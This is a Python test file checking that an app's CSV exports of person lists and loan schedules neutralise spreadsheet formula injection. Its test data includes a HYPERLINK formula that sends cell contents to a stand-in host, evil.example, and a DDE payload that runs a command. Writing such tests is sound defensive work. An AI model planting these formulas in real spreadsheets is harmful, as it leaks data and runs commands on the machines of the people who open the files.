"""CSV files we write cannot carry formulas (issue 16, item 9); XLSX was already safe."""
from __future__ import annotations

import csv
import io
import re

from desktop_app.cli import main as hamroh
from desktop_app.domain.csv_safety import safe_cell
from desktop_app.store.security import accounts as security
from desktop_app.store.security import keys

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0",
           "-Rahmonov", "@Karimov", "+Saidov", "\t=1+1", "\uff1dSUM(A1)"]


def test_formula_starts_get_an_apostrophe_and_plain_values_stay():
    for text in HOSTILE:
        if text != "\t=1+1":
            assert safe_cell(text) == "'" + text
    assert safe_cell("\t=1+1") == "'\t'=1+1"         # the part after the tab too
    for value in ("Rahmonov", "Раҳмонов", "O\u02bbgʻiloy", "-12", "+3.5", "2024-01-01", 42,
                  None, "", "a=b", -7, " -12", "a; -2", "Rahmonov; Karimov"):
        assert safe_cell(value) == value


def _person_list_csv(session, db_path, tmp_path, monkeypatch, capsys):
    """``hamroh person-list --format csv`` run by the administrator; the file written."""
    session.conn.close()
    keys.forget_key(db_path)
    monkeypatch.setenv("HAMROH_PASSWORD", "test-password-1")
    out = tmp_path / "people.csv"
    assert hamroh(["person-list", "--db", str(db_path), "--user", "admin", "--format", "csv",
                   "--out", str(out)]) == 0, capsys.readouterr().err
    return out


def test_person_list_csv_keeps_names_readable_and_inert(db_path, tmp_path, monkeypatch, capsys):
    from desktop_app.store.people.repositories import PersonRepository
    session = security.login(db_path, "admin", "test-password-1")
    people = PersonRepository(session)
    for name in HOSTILE:
        people.create(dict(family_name=name, given_name="Test"))
    out = _person_list_csv(session, db_path, tmp_path, monkeypatch, capsys)
    cells = [c for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")))
             for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\uff1d")
                and not c.lstrip("+-").replace(".", "").isdigit()]
    for name in HOSTILE[:5]:          # stored as typed (the others are trimmed on save)
        assert "'" + name in cells


def test_schedule_csv_numbers_stay_numbers(capsys):
    assert hamroh(["loan", "schedule", "--amount", "1000", "--currency", "TJS", "--rate", "24",
                   "--term", "3", "--frequency", "monthly", "--method", "flat",
                   "--start", "2026-01-01", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][0] == "1" and "'" not in "".join(c for r in rows for c in r)


# cut where a spreadsheet in a Russian, Tajik or Uzbek Windows cuts (Excel: at ";", quotes
# inside a field plain text) or where LibreOffice's import is told to (tab), and at line ends
SPLITTING = ["Rahmonov;=HYPERLINK(\"http://evil.example\",\"click\")", "Karimov;=cmd|' /C calc'!A0",
             "Saidov;  -1+1", "Nazarov\t@SUM(1)", "Aliev;\"=1+1", "Umarov;\uff1d1+1",
             " =1+1", "Rahimov\n=1+1", "Tursunov\r+1+1"]


def _cells_as_split_by_a_semicolon_locale(text: str) -> list[str]:
    return [cell.strip(' "') for line in text.splitlines()
            for cell in re.split("[;\t]", line)]


def _live(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20") and not \
        re.fullmatch(r"[+-]?\d+(?:\.\d+)?", cell)


def test_no_part_of_a_cell_starts_a_formula_where_a_spreadsheet_cuts_it():
    for text in SPLITTING:
        assert not [c for c in _cells_as_split_by_a_semicolon_locale(safe_cell(text))
                    if _live(c)], text
    assert safe_cell("a;-2") == "a;-2" and safe_cell("Saidov;-1+1") == "Saidov;'-1+1"


def test_person_list_csv_is_inert_in_a_semicolon_locale(db_path, tmp_path, monkeypatch,
                                                         capsys):
    from desktop_app.store.people.repositories import PersonRepository
    session = security.login(db_path, "admin", "test-password-1")
    people = PersonRepository(session)
    for name in SPLITTING:
        row = people.create(dict(family_name="Test", given_name="Test"))
        # as a bundle from another office may bring it: no trimming, no checks
        session.conn.execute("UPDATE person SET family_name=?, village=? WHERE id=?",
                             (name, name, row["id"]))
    out = _person_list_csv(session, db_path, tmp_path, monkeypatch, capsys)
    with open(out, encoding="utf-8-sig", newline="") as fh:
        text = fh.read()
    assert not [c for c in _cells_as_split_by_a_semicolon_locale(text) if _live(c)]
    # read as the file says (commas, quotes), every name is there as typed, apostrophes aside
    cells = [c.replace("'", "") for row in csv.reader(io.StringIO(text)) for c in row]
    for name in SPLITTING:
        assert name.replace("'", "") in cells
